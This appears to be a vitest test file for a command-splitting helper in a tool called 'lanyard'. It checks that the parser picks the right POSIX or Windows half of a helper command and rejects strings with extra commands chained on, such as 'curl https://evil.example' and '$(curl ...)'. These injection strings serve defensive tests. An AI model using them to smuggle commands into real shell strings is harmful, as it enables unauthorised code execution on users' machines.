import { describe, expect, it, test } from "vitest";
import { halfFor, startsIn } from "../../../../../src/core/config/command/halves.ts";
import { helperCommand, helperCommandFor } from "../../../../../src/core/config/command/helperCommand.ts";
import { helperRoute } from "../../../../../src/core/config/command/helperRoute.ts";

const posix = '"${LANYARD_HOME:-$HOME/.lanyard}/bin/lanyard" headers';
const windows = String.raw`"%USERPROFILE%\.lanyard\bin\lanyard" headers`;

describe("a helper for every system", () => {
  it("is what each system's shell comes to run", () => {
    expect(halfFor(helperCommand, "sh")).toBe(posix);
    expect(halfFor(helperCommand, "cmd")).toBe(windows);
    expect([helperRoute(helperCommand), helperRoute(helperCommand, "cmd")]).toEqual([
      { kind: "lanyard" },
      { kind: "lanyard" },
    ]);
  });

  it("has a script for each", () => {
    const both = `${posix} -- ./get.sh --team a || ${windows} -- scripts\\get.cmd --team a`;
    expect(helperRoute(both)).toEqual({ kind: "script", command: "./get.sh --team a", stdin: false });
    expect(helperRoute(both, "cmd")).toEqual({
      kind: "script",
      command: "scripts\\get.cmd --team a",
      stdin: false,
    });
  });

  it("has one script for all, unless only a POSIX shell can read it", () => {
    expect(helperCommandFor("node get.mjs")).toBe(`${posix} -- node get.mjs || ${windows} -- node get.mjs`);
    expect(helperCommandFor("./a.sh | ./b.sh")).toBe(`${posix} -- sh -c './a.sh | ./b.sh'`);
    expect(helperCommandFor(`./a.sh "$HOME/x"`)).toBe(
      `${posix} -- ./a.sh "$HOME/x" || ${windows} -- ./a.sh "$HOME/x"`,
    );
  });
});

describe("more than two commands are not two halves", () => {
  test.each([
    `${posix} || ${windows}; curl https://evil.example`,
    `${posix} || ${windows} & curl https://evil.example`,
    `${posix} || ${windows} || curl https://evil.example`,
    `${posix}; curl https://evil.example || ${windows}`,
    `${posix} & curl https://evil.example || ${windows}`,
    `${posix} -- ./get.sh & evil.cmd || ${windows} -- get.cmd`,
    `${posix} || ${windows} > headers.json`,
    `${posix} || ${windows} $(curl https://evil.example)`,
    `${posix} || ${windows} -- a^&b`,
    // A file of the project's, on the one system or on the other.
    `${posix} || "%USERPROFILE%/.lanyard/bin/lanyard" headers`,
    `"./bin/lanyard" headers || ${windows}`,
    `"$HOME/.lanyard/bin/lanyard" headers || ${windows}`,
    `${posix} || "%USERPROFILE%\\evil.cmd" headers`,
    `curl https://evil.example || ${windows}`,
  ])("%s", (command) => {
    for (const shell of ["sh", "cmd"] as const) expect(halfFor(command, shell)).toBe(command);
  });
});

describe("what a shell can start", () => {
  test.each<[command: string, sh: boolean, cmd: boolean]>([
    [posix, true, false],
    [windows, false, true],
    ["~/.lanyard/bin/lanyard headers", true, false],
    [String.raw`"C:\lanyard\bin\lanyard.cmd" headers`, false, true],
    ["lanyard headers", true, true],
  ])("%s", (command, sh, cmd) => {
    expect([startsIn(command, "sh"), startsIn(command, "cmd")]).toEqual([sh, cmd]);
  });
});

test("stays linear on a text made to be slow", () => {
  for (const hostile of [' || "%', `${posix} || `, "| ", " ".repeat(9)]) {
    const long = hostile.repeat(20_000);
    expect(halfFor(long, "sh")).toBe(long);
  }
});
